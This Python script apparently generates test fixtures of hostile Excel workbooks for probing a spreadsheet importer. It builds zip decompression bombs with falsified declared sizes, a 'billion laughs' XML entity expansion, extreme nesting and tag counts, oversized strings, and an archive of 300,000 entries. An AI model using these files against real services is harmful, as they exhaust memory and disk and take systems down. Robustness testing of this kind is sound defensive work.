#!/usr/bin/env python3
"""Writes workbooks that look small and unpack to what no machine should be asked to hold.

usage: bombs.py FOLDER [--megabytes 1100]

One folder each, with a units.xlsx of a few hundred kilobytes to a few megabytes. A block is
compressed once and repeated, so that a gigabyte takes no time.
"""
import argparse
import os
import struct
import zlib

MAIN = OFFICE = PACKAGE = 'urn:x'
RELS = f'''<Relationships xmlns="{PACKAGE}"><Relationship Id="a"
 Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>'''
BOOK = f'''<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets><sheet name="units" sheetId="1"
 r:id="s"/></sheets></workbook>'''
BOOK_RELS = f'''<Relationships xmlns="{PACKAGE}">
<Relationship Id="s" Type="{OFFICE}/worksheet" Target="sheet.xml"/>
<Relationship Id="t" Type="{OFFICE}/sharedStrings" Target="strings.xml"/></Relationships>'''
HEAD = f'<worksheet xmlns="{MAIN}"><sheetData>'
TAIL = '</sheetData></worksheet>'
NAMES = ['unit', 'building', 'kind', 'area']
HEADER = '<row r="1">' + ''.join(
    f'<c t="inlineStr"><is><t>{name}</t></is></c>' for name in NAMES) + '</row>'


def packed(start, block, times, end):
    """Deflated `start + block * times + end`, its CRC and its size."""
    flush = zlib.Z_FULL_FLUSH
    pack = zlib.compressobj(6, zlib.DEFLATED, -15)
    first = pack.compress(start) + pack.flush(flush)
    body = pack.compress(block) + pack.flush(flush)
    last = pack.compress(end) + pack.flush(zlib.Z_FINISH)
    crc = zlib.crc32(start)
    for _ in range(times):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(end, crc)
    return first + body * times + last, crc, len(start) + len(block) * times + len(end)


def plain(text):
    return packed(text.encode(), b'', 0, b'')


def archive(path, parts, claimed=None):
    """A zip of (name, (data, crc, size)); `claimed` sizes stand in the directory instead."""
    os.makedirs(os.path.dirname(path), exist_ok=True)
    directory = bytearray()
    with open(path, 'wb') as file:
        for name, (data, crc, size) in parts:
            size = (claimed or {}).get(name, size)
            place = file.tell()
            fields = struct.pack('<HHHHHIIIHH', 20, 0, 8, 0, 33, crc, len(data), size,
                                 len(name), 0)
            file.write(b'PK\3\4' + fields + name.encode() + data)
            directory += b'PK\1\2' + struct.pack('<H', 20) + fields + struct.pack(
                '<HHHII', 0, 0, 0, 0, place) + name.encode()
        place = file.tell()
        count = min(len(parts), 0xffff)
        file.write(directory + b'PK\5\6' + struct.pack(
            '<HHHHIIH', 0, 0, count, count, len(directory), place, 0))


def book(folder, name, sheet, strings='<sst/>', claimed=None):
    strings = plain(strings) if isinstance(strings, str) else strings
    archive(os.path.join(folder, name, 'units.xlsx'), [
        ('_rels/.rels', plain(RELS)), ('xl/workbook.xml', plain(BOOK)),
        ('xl/_rels/workbook.xml.rels', plain(BOOK_RELS)), ('xl/sheet.xml', sheet),
        ('xl/strings.xml', strings)], claimed)


def rows(count, seed=1):
    """Rows that differ, as a real table's do."""
    lines = []
    for number in range(count):
        seed = (seed * 6364136223846793005 + 1442695040888963407) % 2 ** 64
        lines.append(f'<row><c t="inlineStr"><is><t>{seed % 99}-{seed >> 40}</t></is></c><c/><c t="'
                     f'inlineStr"><is><t>shop</t></is></c><c><v>{seed % 9999}</v></c></row>')
    return ''.join(lines).encode()


def main():
    arguments = argparse.ArgumentParser(description=__doc__)
    arguments.add_argument('folder')
    arguments.add_argument('--megabytes', type=int, default=1100)
    options = arguments.parse_args()
    folder, size = options.folder, options.megabytes << 20

    def sheet(block, start=HEAD + HEADER, end=TAIL):
        block = block if isinstance(block, bytes) else block.encode()
        return packed(start.encode(), block, size // len(block) + 1, end.encode())

    blank = sheet(b'<row></row>' * 90_000)
    book(folder, 'blank-rows', blank)
    book(folder, 'blank-rows-claimed-small', blank, claimed={'xl/sheet.xml': 1_000})
    real = sheet(rows(8_000))
    book(folder, 'gigabyte', real)
    book(folder, 'padding-claimed-small', sheet(b'<!--' + rows(8_000).replace(b'-', b'+') + b'-->'),
         claimed={'xl/sheet.xml': 1_000_000})
    empty = plain(HEAD + HEADER + TAIL)
    book(folder, 'strings', empty, sheet(
        ''.join(f'<si><t>{n * 7919 % 99991}</t></si>' for n in range(50_000)), '<sst>', '</sst>'))
    book(folder, 'one-string', empty, sheet('x' * 1_000_000, '<sst><si><t>', '</t></si></sst>'))
    book(folder, 'one-tag', sheet('x' * 1_000_000, HEAD + '<row a="', '"/>' + TAIL))
    book(folder, 'nest', sheet('<a>' * 300_000))
    book(folder, 'names', plain(HEAD + ''.join(f'<n{n}/>' for n in range(3_000_000)) + TAIL))
    long = '<sst><si><t>' + 'x' * 100_000 + '</t></si></sst>'
    many = '<row><c/><c t="s"><v>0</v></c></row>'
    book(folder, 'one-string-often', plain(HEAD + HEADER + many * 100_000 + TAIL), long)
    laughs = ''.join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10))
    book(folder, 'laughs', plain(f'<!DOCTYPE worksheet [{laughs}]>' + HEAD + '&l9;' + TAIL))
    nothing = plain('')
    archive(os.path.join(folder, 'parts', 'units.xlsx'),
            [(f'{n}', nothing) for n in range(300_000)])


if __name__ == '__main__':
    main()
